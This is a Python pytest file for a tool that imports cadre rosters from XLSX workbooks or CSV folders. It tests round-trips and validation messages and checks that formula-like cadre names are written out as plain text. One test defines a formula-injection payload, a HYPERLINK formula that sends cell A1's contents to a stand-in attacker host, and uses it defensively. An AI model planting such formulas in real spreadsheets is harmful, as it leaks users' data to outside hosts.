"""Rosters as an XLSX workbook or a folder of CSV sheets: the same Roster as YAML, every
problem at its sheet, row and column."""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

import openpyxl
import pytest

from kaohe.ingest.roster_io import RosterError, load_roster
from kaohe.ingest.roster_tables import write_roster_tables
from schemas.common import AccountabilityLevel
from schemas.policy import RaterGroup
from schemas.roster import Accountability, CadreSpec, Contact, Roster, UnitSpec
from tests.test_cli import kaohe


def full_roster(units: int = 2, cadres: int = 3) -> Roster:
    """Every column of every sheet used at least once."""
    out = [
        UnitSpec(
            unit_id=f"u{i:04d}",
            name=f"单位{i}",
            category="county" if i % 2 else "municipal",
            contact=f"office-{i}",
            cadres=[
                CadreSpec(
                    cadre_id=f"u{i:04d}-{j}",
                    name=f"干部{j}",
                    position="局长" if j == 0 else "副局长",
                    principal=j == 0,
                    newly_promoted=j == 1,
                    leave_days=10 * j,
                    negative_list=False,
                    ungraded_reason="11月新任职" if j == 2 else None,
                )
                for j in range(cadres)
            ],
        )
        for i in range(units)
    ]
    out[0].talk_plan = {"班子成员": 3, "中层干部": 5}
    out[0].selection_review = True
    out[0].rater_groups = [
        RaterGroup(group_id="A", label="班子成员", planned=5, weight="40%"),
        RaterGroup(group_id="B", label="中层干部", planned=12, weight="1/3"),
        RaterGroup(group_id="C", label="职工代表", planned=20, weight="4/15"),
    ]
    out[0].cadres[1].accountabilities = [
        Accountability(
            level=AccountabilityLevel.ADMONISHMENT,
            start=dt.date(2025, 9, 1),
            end=dt.date(2026, 8, 31),
        )
    ]
    if units > 1:
        out[1].planned_talks = 4
    contacts = {u.contact or "": Contact(email=f"{u.unit_id}@example.org") for u in out}
    for who in ("leader", "dept", "group", "approver"):
        contacts[who] = Contact(webhook=f"https://oa.example/{who}")
    return Roster(
        campaign_id="tables-2026",
        year=2026,
        title="表格名册",
        units=out,
        contacts=contacts,
        group_leader="leader",
        department="dept",
        assessment_group="group",
        approver="approver",
    )


@pytest.mark.parametrize("form", ["roster.xlsx", "csv-folder"])
def test_a_roster_round_trips_through_tables(tmp_path: Path, form: str) -> None:
    roster = full_roster()
    path = tmp_path / form
    write_roster_tables(roster, path)
    assert load_roster(path) == roster
    if form == "csv-folder":
        # A CSV file names its folder too.
        assert load_roster(path / "units.csv") == roster


EVIL = '=HYPERLINK("http://evil.example/?"&A1,"张明")'


@pytest.mark.parametrize("form", ["roster.xlsx", "csv-folder"])
def test_a_formula_in_a_name_is_exported_as_text(tmp_path: Path, form: str) -> None:
    """`kaohe roster convert` of a cadre named like a formula: no cell a spreadsheet would
    run (XLSX: a string cell, not a formula; CSV: behind an apostrophe), and the name comes
    back unchanged."""
    roster = full_roster()
    unit = roster.units[0]
    names = [EVIL, "+86 139", "@SUM(A1)"]
    cadres = [c.model_copy(update={"name": n}) for c, n in zip(unit.cadres, names, strict=False)]
    roster.units[0] = unit.model_copy(update={"cadres": cadres, "name": "=1+1"})
    path = tmp_path / form
    write_roster_tables(roster, path)
    if form == "roster.xlsx":
        book = openpyxl.load_workbook(path)  # formulas as written, not their cached values
        cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula was written"
        assert EVIL in {c.value for c in cells}
    else:
        text = (path / "cadres.csv").read_text()
        assert "'=HYPERLINK" in text and "\n=" not in text and ",=" not in text
        assert "'=1+1" in (path / "units.csv").read_text()
    assert load_roster(path) == roster


def edit_sheet(path: Path, sheet: str, row: int, column: str, value: object) -> None:
    book = openpyxl.load_workbook(path)
    ws = book[sheet]
    header = [c.value for c in ws[1]]
    ws.cell(row=row, column=header.index(column) + 1).value = value  # None empties it
    book.save(path)


def test_every_problem_of_a_workbook_names_sheet_row_and_column(tmp_path: Path) -> None:
    path = tmp_path / "roster.xlsx"
    write_roster_tables(full_roster(), path)
    # cadres: row 2 is u0000-0, row 3 u0000-1, ... (3 per unit).
    edit_sheet(path, "cadres", 3, "leave_days", 400)
    edit_sheet(path, "cadres", 6, "unit_id", "nowhere")
    edit_sheet(path, "cadres", 7, "principal", "也许")
    edit_sheet(path, "accountabilities", 2, "level", "表扬")
    edit_sheet(path, "units", 3, "name", None)
    edit_sheet(path, "campaign", 2, "year", 1900)
    edit_sheet(path, "contacts", 2, "email", "not-an-address")
    book = openpyxl.load_workbook(path)
    book["talk_plan"].cell(row=1, column=4, value="comment")  # a column kaohe does not know
    book.create_sheet("说明").append(["notes are ignored"])
    book.save(path)

    with pytest.raises(RosterError) as info:
        load_roster(path)
    problems = info.value.problems
    expected = [
        "accountabilities, row 2, column level: Input should be",
        "campaign, row 2, column year: Input should be greater than or equal to 2000",
        "cadres, row 3, column leave_days: Input should be less than or equal to 366",
        "cadres, row 6, column unit_id: unit 'nowhere' is not in the units sheet",
        "cadres, row 7, column principal: Input should be a valid boolean",
        "contacts, row 2, column email: String should match pattern",
        "talk_plan, row 1, column comment: unknown column",
        "units, row 3, column name: Field required",
    ]
    for want in expected:
        assert any(p.startswith(want) for p in problems), (want, problems)
    assert len(problems) == len(expected), problems

    # A unit's own rules (pydantic checks them once its fields are valid) land on its row.
    write_roster_tables(full_roster(), path)
    edit_sheet(path, "rater_groups", 4, "weight", "30%")  # 40% + 1/3 + 30%
    with pytest.raises(RosterError) as info:
        load_roster(path)
    assert info.value.problems == [
        "units, row 2: Value error, rater_groups: weights must sum to 100%, they sum to "
        "103.333% (A 40%, B 33.3333%, C 30%)"
    ]


def test_a_csv_folder_reports_missing_sheets_and_columns(tmp_path: Path) -> None:
    folder = tmp_path / "roster"
    write_roster_tables(full_roster(), folder)
    (folder / "campaign.csv").unlink()
    with (folder / "cadres.csv").open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([["unit_id", "name", "position"], ["u0000", "张三", "局长"]])
    with pytest.raises(RosterError) as info:
        load_roster(folder)
    assert info.value.problems == [
        "cadres, row 1, column cadre_id: required column missing",
        "campaign: required sheet missing",
    ]


def test_cli_validates_a_5000_unit_30000_cadre_workbook(tmp_path: Path) -> None:
    roster = full_roster(units=5000, cadres=6)
    path = tmp_path / "big.xlsx"
    write_roster_tables(roster, path)
    run = kaohe(None, "validate", str(path))
    assert run.returncode == 0, run.stderr
    assert "ok: 5000 units, 30000 cadres" in run.stdout

    edit_sheet(path, "cadres", 29_999, "position", None)
    run = kaohe(None, "validate", str(path))
    assert run.returncode == 2
    assert "cadres, row 29999, column position: Field required" in run.stderr

    # The same roster as YAML for `kaohe start`, through `kaohe roster convert`.
    small = tmp_path / "small.xlsx"
    write_roster_tables(full_roster(), small)
    run = kaohe(None, "roster", "convert", str(small), str(tmp_path / "small.yaml"))
    assert run.returncode == 0, run.stderr
    assert load_roster(tmp_path / "small.yaml") == full_roster()
